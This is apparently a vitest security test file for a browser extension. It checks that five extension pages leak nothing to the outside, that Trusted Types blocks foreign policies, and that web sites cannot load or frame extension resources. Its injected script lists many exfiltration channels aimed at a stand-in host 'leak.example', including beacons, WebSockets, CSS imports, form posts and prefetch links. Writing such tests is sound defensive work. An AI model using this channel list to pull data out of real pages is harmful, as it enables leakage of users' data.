import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type Road, setUpRoad } from './harness/road.ts'
import { silently } from './harness/silently.ts'
import { until } from './harness/until.ts'

let road: Road
beforeAll(async () => {
  road = await setUpRoad()
})
afterAll(() => road?.stop())

/** All ways by which something could leave a page into which somebody got markup or a script. */
const ways = `
  const at = (way) => 'https://' + way + '.leak.example/x'
  const add = (tag, attributes, text = '') => {
    const element = Object.assign(document.createElement(tag), { textContent: text })
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
    document.head.append(element)
    return element
  }
  const attempt = async (work) => { try { await work() } catch {} }
  for (const rel of ['prefetch', 'preload', 'modulepreload', 'stylesheet', 'icon', 'manifest', 'prerender'])
    for (const as of ['', 'script', 'image', 'fetch', 'document']) add('link', { rel, as, href: at(rel + as) })
  for (const tag of ['img', 'iframe', 'audio', 'video', 'embed', 'source', 'track']) await attempt(() => add(tag, { src: at(tag) }))
  await attempt(() => add('object', { data: at('object') }))
  await attempt(() => add('script', { src: at('script') }))
  await attempt(() => add('script', { type: 'speculationrules' }, JSON.stringify({ prefetch: [{ source: 'list', urls: [at('speculation')] }] })))
  await attempt(() => add('style', {}, '@import url(' + at('import') + '); body { background: url(' + at('background') + ') }'))
  await attempt(() => { document.body.style.backgroundImage = 'url(' + at('inline') + ')' })
  await attempt(() => { const form = add('form', { action: at('form'), method: 'post' }); form.submit() })
  await attempt(() => fetch(at('fetch'), { mode: 'no-cors' }))
  await attempt(() => navigator.sendBeacon(at('beacon'), 'x'))
  await attempt(() => new WebSocket('wss://socket.leak.example/'))
  await attempt(() => new EventSource(at('events')))
  await attempt(() => new FontFace('x', 'url(' + at('font') + ')').load())
  await attempt(() => new Worker(at('worker')))
  await attempt(() => import(at('module')))
`

describe.each(['sidepanel.html', 'dashboard.html', 'options.html', 'welcome.html', 'reader.html'])('%s', (path) => {
  it('lets nothing out, by whatever way', async () => {
    const page = await road.browser.extensionPage(path)
    await silently(page, `(async () => { ${ways} })()`)
    // What was asked for before is in the sink when this is: the browser has been drawing, and idle, in between.
    await silently(page, 'new Promise((done) => requestIdleCallback(done, { timeout: 2000 }))')
    const marker = `https://marker.example/${path}`
    const tab = await road.browser.page('about:blank')
    await tab.goto(marker).catch(() => {})
    await until(async () => road.lab.sink.requests.some(({ url }) => url === marker), {
      what: 'the marker in the sink',
    })
    expect(road.lab.sink.requests.filter(({ host }) => host.endsWith('leak.example'))).toEqual([])
    await tab.close()
    await page.close()
  })

  it('takes no policy for scripts that is not ours, and no text as one', async () => {
    const page = await road.browser.extensionPage(path)
    const said = await silently<string[]>(
      page,
      `(() => {
        const attempt = (work) => { try { work(); return 'done' } catch (error) { return error.name } }
        return [
          attempt(() => trustedTypes.createPolicy('mine', { createHTML: (text) => text })),
          attempt(() => trustedTypes.createPolicy('default', { createScriptURL: (url) => url })),
          attempt(() => { document.body.innerHTML = '<img>' }),
          attempt(() => document.createElement('script').setAttribute('src', 'x.js')),
        ]
      })()`,
    )
    expect(said).toEqual(Array(4).fill('TypeError'))
    await page.close()
  })
})

it('no site can load, frame or speak to anything of ours', async () => {
  const origin = `chrome-extension://${road.browser.extensionId()}`
  const call = await road.call({ code: 'pro-bean-ext' })
  const said = await silently<unknown[]>(
    call.page,
    `(async () => {
      const origin = '${origin}'
      const loads = (tag, name, file) => new Promise((done) => {
        const element = document.createElement(tag)
        element.onload = () => done(tag === 'iframe' ? 'framed' : 'loaded')
        element.onerror = () => done('refused')
        element.rel = 'stylesheet'
        element[name] = origin + file
        document.body.append(element)
      })
      const frame = document.createElement('iframe')
      frame.src = origin + '/sidepanel.html'
      document.body.append(frame)
      await new Promise((done) => { frame.onload = done })
      return [
        await fetch(origin + '/sidepanel.html').then(() => 'fetched', () => 'refused'),
        await loads('img', 'src', '/icon/16.png'),
        await loads('link', 'href', '/assets/base.css'),
        [...Array(frame.contentWindow.length)].length,
        typeof globalThis.chrome?.runtime?.sendMessage,
      ]
    })()`,
  )
  expect(said).toEqual(['refused', 'refused', 'refused', 0, 'undefined'])
  const framed = call.page.frames().map((frame) => frame.url())
  expect(framed.filter((url) => url.startsWith(origin) && url.endsWith('sidepanel.html'))).toEqual([])
  await call.page.close()
})
